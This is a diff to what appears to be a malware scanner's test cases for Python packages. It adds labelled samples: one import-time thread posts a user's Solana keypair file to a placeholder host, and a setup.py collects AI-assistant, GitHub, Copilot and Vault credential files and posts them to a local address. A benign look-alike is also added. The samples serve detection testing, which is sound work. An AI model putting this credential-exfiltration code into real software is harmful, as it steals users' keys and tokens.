@@ -506,6 +506,35 @@ TOKEN_OWN_BENIGN = _init("hfmirror", (
     "    return requests.get('https://huggingface.co/api/whoami-v2',\n"
     "                        headers={'Authorization': f'Bearer {tok}'}).json()\n"))
 
+# --- wallet keypairs and AI-tool / CLI credential files ----------------------------------
+SOLANA_KEY = _init("soltoken", (
+    "import os, threading, urllib.request\n\n\n"
+    "def _sync():\n"
+    "    p = os.path.join(os.path.expanduser('~'), '.config', 'solana', 'id.json')\n"
+    "    if os.path.exists(p):\n"
+    "        urllib.request.urlopen('https://rpc.x.invalid/k', data=open(p, 'rb').read())\n\n\n"
+    "threading.Thread(target=_sync, daemon=True).start()\n"))
+AI_CONFIGS = _setup("aitools", (
+    "import os, json, urllib.request\n\n"
+    "home = os.path.expanduser('~')\n"
+    "got = {}\n"
+    "for rel in ('.claude.json', '.codex/auth.json', '.config/gh/hosts.yml',\n"
+    "            '.config/github-copilot/apps.json', '.vault-token'):\n"
+    "    try:\n        got[rel] = open(os.path.join(home, rel)).read()\n"
+    "    except OSError:\n        pass\n"
+    "try:\n"
+    "    urllib.request.urlopen('http://127.0.0.1:9/a', data=json.dumps(got).encode())\n"
+    "except OSError:\n    pass\n"))
+SOLANA_BENIGN = {
+    "solsign/__init__.py": "",
+    "solsign/cli.py": (
+        "import json, os\n\n\n"
+        "def load_keypair(path='~/.config/solana/id.json'):\n"
+        "    with open(os.path.expanduser(path)) as fh:\n"
+        "        return bytes(json.load(fh))\n\n\n"
+        "def main():\n    print(len(load_keypair()))\n"),
+}
+
 CASES = [
     Case("downloaded ELF written to a memfd and exec'd from /proc/self/fd at import",
          "symcalc", MEMFD_EXECV, "malicious", ("PV301",), kind="wheel"),
@@ -614,4 +643,10 @@ CASES = [
          TOKEN_VARS, "malicious", ("PV303",), kind="wheel"),
     Case("benign look-alike: HF_TOKEN sent to huggingface.co by a function the user calls",
          "hfmirror", TOKEN_OWN_BENIGN, "benign", kind="wheel"),
+    Case("Solana keypair file posted from an import-time thread (path in pieces)",
+         "soltoken", SOLANA_KEY, "malicious", ("PV303",), kind="wheel"),
+    Case("setup.py gathers AI-assistant and CLI credential files and posts them", "aitools",
+         AI_CONFIGS, "malicious", ("PV303",)),
+    Case("benign look-alike: CLI loading the user's Solana keypair to sign locally",
+         "solsign", SOLANA_BENIGN, "benign", kind="wheel"),
 ]
